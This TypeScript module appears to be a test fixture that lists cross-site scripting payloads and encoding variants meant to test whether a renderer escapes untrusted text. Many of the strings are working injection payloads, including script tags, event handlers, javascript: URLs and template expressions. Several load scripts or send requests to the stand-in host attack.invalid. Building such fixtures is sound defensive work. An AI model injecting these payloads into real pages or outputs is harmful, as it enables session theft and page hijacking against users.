/** Attacks: each would set a global variable, open a dialog or send a request. */
export const attacks: readonly string[] = [
  `<script>window.marked = 1; alert(1)</script>`,
  `"><script src="//attack.invalid/a.js"></script>`,
  `'"><img src=x onerror="window.marked = 2; alert(2)">`,
  `<svg onload="window.marked = 3; alert(3)"><animate onbegin=alert(4) attributeName=x dur=1s>`,
  `</title><svg/onload=alert(5)>`,
  `</text></svg><script>window.marked = 6</script>`,
  `</style><script>window.marked = 7</script><style>@import "//attack.invalid/b.css"; * { background: url(//attack.invalid/c) }`,
  `</details></summary></pre></td></table></textarea><body onload=alert(8)>`,
  `<a href="javascript:alert(9)" id=link autofocus onfocus=alert(10)>here</a>`,
  `javascript:alert(11)//`,
  `<iframe src="javascript:alert(12)" srcdoc="<script>parent.marked = 13</script>"></iframe>`,
  `<meta http-equiv=refresh content="0; url=//attack.invalid/d"><base href="//attack.invalid/">`,
  `<form action="//attack.invalid/e"><button autofocus onfocus=alert(14)>x</button></form>`,
  `<object data="data:text/html,<script>alert(15)</script>"></object><embed src="//attack.invalid/f">`,
  `<link rel=stylesheet href="//attack.invalid/g.css"><link rel=prefetch href="//attack.invalid/h">`,
  `<video><source onerror="alert(16)"></video><audio src=x onerror=alert(17)></audio>`,
  `<input onfocus=alert(18) autofocus><select onfocus=alert(19) autofocus><details open ontoggle=alert(20)>`,
  "${alert(21)} {{constructor.constructor('alert(22)')()}} <%= alert(23) %> `${window.marked = 24}`",
  `<!--><script>window.marked = 25</script>--> <![CDATA[<script>alert(26)</script>]]>`,
  `<math><mtext></mtext><mglyph><style><img src onerror=alert(27)></style></mglyph></math>`,
  `\u2028</script\u2029><script>window.marked = 28</script> \u202egnp.x <\u0000script>window.marked = 29</script>`,
  `&lt;script&gt;alert(30)&lt;/script&gt; &#60;script>alert(31)</script>`,
  `style="background:url(//attack.invalid/i)" onmouseover="alert(32)`,
];

/** Other spellings of an attack, as a model, a judge or a file could write them. */
const spellings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `</script></pre></option></select>${text}`,
  (text) => text.replaceAll(/[a-z]/g, (letter, at: number) => (at % 2 ? letter : letter.toUpperCase())),
  (text) => `\u202e${text}\u0000\u2028\ud800`,
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll("<", "&lt;").replaceAll('"', "&quot;"),
  (text) => `${text}${"W".repeat(3000)}`,
  (text) => JSON.stringify(text).replaceAll("<", "\\u003c"),
  (text) => `\n\t${text.split("").join("\u200b")}`,
];

/** Returns different hostile strings, of which the first ones are the attacks. */
export const hostileTexts = (count: number): readonly string[] =>
  Array.from({ length: count }, (_, at) =>
    spellings[Math.floor(at / attacks.length) % spellings.length]!(attacks[at % attacks.length]!),
  );
